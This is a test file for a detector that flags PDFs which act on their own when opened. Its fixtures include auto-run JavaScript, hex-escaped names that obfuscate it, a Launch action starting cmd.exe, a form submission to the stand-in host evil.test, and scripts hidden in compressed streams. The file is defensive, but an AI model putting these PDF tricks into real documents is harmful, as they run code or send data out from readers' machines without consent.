import { deflateSync } from 'node:zlib'

import { expect, it } from 'vitest'

import { actsByItself } from './acts-by-itself.ts'

const pdf = (inside: string | Buffer) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog '),
    Buffer.from(inside),
    Buffer.from('>>endobj\n%%EOF'),
  ])
const packed = (inside: string, filter = '/FlateDecode') =>
  pdf(
    Buffer.concat([
      Buffer.from(`>>endobj 2 0 obj<</Type/ObjStm/Filter${filter}>>stream\n`),
      deflateSync(inside),
      Buffer.from('\nendstream'),
    ]),
  )

it.each([
  ['a script', pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
  ['a script in other letters', pdf('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>')],
  ['a program', pdf('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  ['a form that sends', pdf('/A<</S/SubmitForm/F(https://evil.test)>>')],
  ['a script that is packed', packed('<</S/JavaScript/JS(1)>>')],
  ['objects in an unknown package', packed('<</A 1>>', '/LZWDecode')],
  ['a lock', pdf('/Encrypt 5 0 R')],
])('a document with %s acts', (_what, document) => {
  expect(actsByItself(document)).toBe(true)
})

it.each([
  ['text', pdf('/Pages 2 0 R')],
  ['packed pages', packed('<</Type/Page/MediaBox[0 0 9 9]>>')],
  ['a link', pdf('/A<</S/URI/URI(https://example.com)>>')],
])('a document with %s only shows', (_what, document) => {
  expect(actsByItself(document)).toBe(false)
})
